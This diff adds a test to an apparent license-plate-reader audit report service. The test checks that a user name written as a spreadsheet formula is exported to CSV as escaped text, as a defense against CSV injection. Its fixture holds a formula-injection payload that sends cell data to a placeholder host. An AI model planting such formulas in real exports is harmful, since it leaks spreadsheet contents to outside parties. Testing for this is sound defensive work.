@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 from typing import Annotated
 
@@ -184,6 +186,35 @@ class TestSb34Report:
         assert "releases,CA0010900,serial_crime_support,1" in csv_resp.text
         assert "searches_by_person,Bea Badge (4711),,1" in csv_resp.text
         assert "hits_by_disposition,arrest,,2" in csv_resp.text
+
+    async def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(
+        self, ledger: Ledger, infra: Infra
+    ) -> None:
+        """Names come from the agency's identity provider; one written as a spreadsheet formula
+        is exported as text (OWASP CSV injection), and the JSON keeps it as it is."""
+        formula = '=HYPERLINK("http://x.invalid/?q="&A1,"report")'
+        actor: dict[str, object] = {
+            "sub": "inv-9",
+            "name": formula,
+            "agency": "CA0019400",
+            "roles": [],
+            "badge": None,
+        }
+        events = [ledger.event(purpose="stolen_vehicle", actor=actor)]
+        assert (
+            await ledger.client.post("/v1/events", json={"events": events}, headers=ledger.service)
+        ).status_code == 201
+        admin = bearer(infra.mint(roles=["alpr_admin"]))
+        today = datetime.now(UTC).date()
+        params = {"from": (today - timedelta(days=30)).isoformat(), "to": today.isoformat()}
+        as_json = await ledger.client.get("/v1/reports/sb34", params=params, headers=admin)
+        assert [p["name"] for p in as_json.json()["searches_by_person"]] == [formula]
+        as_csv = await ledger.client.get(
+            "/v1/reports/sb34", params=params, headers={**admin, "Accept": "text/csv"}
+        )
+        rows = list(csv.reader(io.StringIO(as_csv.text)))
+        assert ["searches_by_person", "'" + formula, "", "1"] in rows
+        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
     async def test_roles_and_bad_range(self, audit: httpx.AsyncClient, infra: Infra) -> None:
         params = {"from": "2026-02-01", "to": "2026-01-01"}
